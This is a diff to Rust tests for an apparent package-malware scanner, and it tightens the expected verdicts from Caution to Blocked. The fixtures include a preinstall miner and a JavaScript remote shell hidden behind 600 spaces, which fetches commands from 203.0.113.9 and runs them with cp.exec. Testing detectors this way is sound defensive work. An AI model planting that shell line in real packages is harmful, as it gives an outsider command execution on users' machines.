@@ -60,7 +60,7 @@ fn a_miner_in_a_pre_install_script() {
         .script("preinstall", "start /B node preinstall.js & node preinstall.js")
         .file("preinstall.js", starter)
         .file("preinstall.sh", shell);
-    check(package("0.7.28").build(), hijacked.build(), Caution);
+    check(package("0.7.28").build(), hijacked.build(), Blocked);
 }
 
 #[test]
@@ -208,7 +208,7 @@ fn a_remote_shell_behind_white_space() {
          http.get('http://203.0.113.9:3306/id', (r) => r.on('data', (c) => cp.exec(String(c))));\n",
         " ".repeat(600)
     );
-    check(package("2.0.82", clean.to_owned()).build(), package("2.0.83", format!("{clean}{shell}")).build(), Caution);
+    check(package("2.0.82", clean.to_owned()).build(), package("2.0.83", format!("{clean}{shell}")).build(), Blocked);
 }
 
 #[test]
